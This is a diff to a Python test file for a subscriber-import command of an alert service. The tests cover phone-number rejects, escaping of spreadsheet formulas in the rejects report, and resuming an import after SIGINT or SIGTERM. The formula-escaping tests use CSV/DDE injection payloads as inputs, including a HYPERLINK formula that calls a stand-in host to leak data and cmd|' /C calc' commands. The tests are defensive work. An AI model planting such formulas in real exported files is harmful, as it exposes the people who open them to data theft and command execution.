@@ -10,11 +10,21 @@ from datetime import date, datetime, timedelta, timezone
 import pytest
 import sqlalchemy as sa
 
+from alerts import phones
 from alerts.cli import main
 from alerts.schema import subscribers
 from alerts.store import Store
 
 NEXT_MONTH = (date.today() + timedelta(days=30)).isoformat()
+
+
+def _phone_problem(typed: str) -> str:
+    """The phone rule's own words for a number it refuses: the import passes them on."""
+    with pytest.raises(phones.PhoneError) as refused:
+        phones.normalize(typed)
+    return str(refused.value)
+
+
 ROWS = [
     # phone, language, country, city, trip_ends -> the reason it is refused, or None
     (["+905321234567", "az", "TR", "Istanbul", NEXT_MONTH], None),
@@ -22,7 +32,7 @@ ROWS = [
     (["+33612345678", "FR", "франция", "", ""], None),
     (["+971501234567", "ar", "الإمارات", "Dubai", ""], None),
     (["+4915112345678", "xx", "DE", "", ""], "language must be one of"),
-    (["12", "en", "TR", "", ""], "not a valid phone number"),
+    (["12", "en", "TR", "", ""], _phone_problem("12")),
     (["+905321234568", "en", "Narnia", "", ""], "unknown country"),
     (["+905321234569", "en", "TR", "", "2020-01-01"], "already ended"),
     (["+905321234570", "en", "TR", "", "next week"], "not a date"),
@@ -133,3 +143,138 @@ def test_the_guide_s_example_file_imports_cleanly(env, tmp_path, capsys):
     source.write_text(re.sub(r"\d{4}-\d{2}-\d{2}", NEXT_MONTH, example), encoding="utf-8")
     assert main(["subscribers", "import", str(source)]) == 0
     assert "2 rows: 2 new, 0 updated, 0 rejected" in capsys.readouterr().out
+
+
+# ---- the rejects report is text a spreadsheet shows, never formulas it runs ----
+
+FORMULAS = ['=HYPERLINK("http://203.0.113.9/?leak","click")', "@SUM(1+1)*cmd|' /C calc'!A0",
+            "+1+cmd|' /C calc'!A0", "-2+3+cmd|' /C calc'!A0"]  # (the mask strips a leading tab or CR)
+
+
+def test_rejected_cells_that_a_spreadsheet_would_run_are_written_as_text(env, tmp_path, capsys):
+    source = tmp_path / "registry.csv"
+    _write(source, [[typed, "en", "TR", "", ""] for typed in FORMULAS] + [["+4915112345678", "xx", "DE", "", ""]])
+    assert main(["subscribers", "import", str(source)]) == 0
+    with (tmp_path / "registry.csv.rejected.csv").open(newline="", encoding="utf-8") as f:
+        cells = [cell for row in csv.reader(f) for cell in row]
+    assert not [c for c in cells if c[:1] in ("=", "@", "\t", "\r") or (c[:1] in "+-" and "cmd" in c)], cells
+    masked = [c for c in cells if c.startswith("'")]
+    assert len(masked) == len(FORMULAS)  # each made inert, and kept readable after the apostrophe
+    assert "+49151***5678" in cells  # a masked phone number runs nothing: left as it is
+
+
+@pytest.mark.parametrize("value, written", [
+    ("=1+1", "'=1+1"), ("@SUM(A1)", "'@SUM(A1)"), ("+cmd|' /C calc'!A0", "'+cmd|' /C calc'!A0"),
+    ("-1+cmd|x!A0", "'-1+cmd|x!A0"), ("\t=1", "'\t=1"), ("\r=1", "'\r=1"),
+    ("+99450***4567", "+99450***4567"), ("+994501234567", "+994501234567"), ("-12.5", "-12.5"),
+    ("plain text", "plain text"), ("", ""), (42, 42), (None, None),
+])
+def test_the_shared_csv_cell_rule(value, written):
+    from alerts.csvsafe import cell
+
+    assert cell(value) == written
+
+
+# ---- an import stopped by a signal: whole batches, audited, resumable ----
+
+# Small batches for the run that is stopped, so it is surely stopped mid-way; the resumed run
+# uses the default size: resuming goes by line, not by batch number.
+GOOD_ROWS = 5_000
+BATCH_SIZE = 25
+
+
+async def _count_and_trail(url: str) -> tuple[int, list]:
+    from alerts.schema import audit_log
+
+    store = Store(url)
+    try:
+        async with store.read() as conn:
+            count = await conn.scalar(sa.select(sa.func.count()).select_from(subscribers))
+            trail = (await conn.execute(sa.select(audit_log.c.action, audit_log.c.details)
+                                        .where(audit_log.c.action.like("subscribers.import%"))
+                                        .order_by(audit_log.c.id))).all()
+        return count, trail
+    finally:
+        await store.close()
+
+
+def _cli_env(db_url: str, tmp_path) -> dict[str, str]:
+    import os
+
+    env = {k: v for k, v in os.environ.items() if not k.startswith(("TWILIO_", "TOCSIN_"))}
+    return {**env, "TOCSIN_DATABASE_URL": db_url, "TOCSIN_VAR_DIR": str(tmp_path / "var")}
+
+
+async def _run_import(db_url, tmp_path, source, stop_with=None, batch_size=BATCH_SIZE):
+    """`tocsin subscribers import` as a real process; when `stop_with` is given, that signal
+    is sent as soon as the first batch is in the database (the row count says so)."""
+    import sys
+
+    process = await asyncio.create_subprocess_exec(
+        sys.executable, "-m", "alerts.cli", "subscribers", "import", str(source), "--batch-size", str(batch_size),
+        env=_cli_env(db_url, tmp_path), stdout=asyncio.subprocess.PIPE, stderr=asyncio.subprocess.PIPE)
+    communicate = asyncio.ensure_future(process.communicate())
+    if stop_with is not None:
+        store = Store(db_url)
+        try:
+            while not communicate.done():
+                try:
+                    async with store.read() as conn:
+                        written = await conn.scalar(sa.select(sa.func.count()).select_from(subscribers))
+                except sa.exc.DBAPIError:  # the process is still creating the schema
+                    written = 0
+                if written:
+                    process.send_signal(stop_with)
+                    break
+                await asyncio.sleep(0.01)
+        finally:
+            await store.close()
+    out, err = await asyncio.wait_for(communicate, timeout=300)
+    return process.returncode, out.decode(), err.decode()
+
+
+@pytest.mark.parametrize("stop_with", ["SIGINT", "SIGTERM"])
+async def test_an_interrupted_import_keeps_whole_audited_batches_and_resumes(db_url, tmp_path, stop_with):
+    import signal
+
+    signum = getattr(signal, stop_with)
+    source = tmp_path / "registry.csv"
+    _write(source, [[f"+90532{n:07d}", "en", "TR", "Ankara", ""] for n in range(GOOD_ROWS)])
+
+    status, out, err = await _run_import(db_url, tmp_path, source, stop_with=signum)
+    assert status == 128 + signum, (status, out, err)
+    assert f"interrupted by {stop_with}" in err and f"tocsin subscribers import {source}" in err, err
+    assert "Traceback" not in err
+    count, trail = await _count_and_trail(db_url)
+    actions = [row.action for row in trail]
+    batches = [row.details for row in trail if row.action == "subscribers.import.batch"]
+    # Whole batches only, each audited in its own transaction, and the stop itself recorded.
+    assert 0 < count < GOOD_ROWS and count % BATCH_SIZE == 0, count
+    assert sum(b["created"] for b in batches) == count
+    assert actions == ["subscribers.import.start", *["subscribers.import.batch"] * len(batches),
+                       "subscribers.import.interrupted"], actions
+    last_line = batches[-1]["last_line"]
+    assert f"lines up to {last_line} are written ({count} new, 0 updated)" in err, err
+
+    # The same command again resumes after the last line written: nothing is written twice.
+    status, out, err = await _run_import(db_url, tmp_path, source, batch_size=2000)
+    assert status == 0, (status, out, err)
+    assert f"resumed an interrupted import of this file after line {last_line}" in out, out
+    assert f"{GOOD_ROWS} rows: {GOOD_ROWS} new, 0 updated, 0 rejected" in out, out
+    count, trail = await _count_and_trail(db_url)
+    assert count == GOOD_ROWS
+    actions = [row.action for row in trail]
+    assert actions[-1] == "subscribers.import" and actions.count("subscribers.import.resume") == 1
+    resumed = [row.details for row in trail][actions.index("subscribers.import.resume") + 1:-1]
+    assert resumed[0]["first_line"] == last_line + 1  # skipped, not rewritten
+    assert _audit_intact(db_url, tmp_path)
+
+
+def _audit_intact(db_url: str, tmp_path) -> bool:
+    """`tocsin audit verify` on the database: the batches' rows keep the hash chain whole."""
+    import subprocess
+    import sys
+
+    done = subprocess.run([sys.executable, "-m", "alerts.cli", "audit", "verify"], capture_output=True, text=True,
+                          env=_cli_env(db_url, tmp_path), timeout=120)
+    return done.returncode == 0 and "audit log intact" in done.stdout
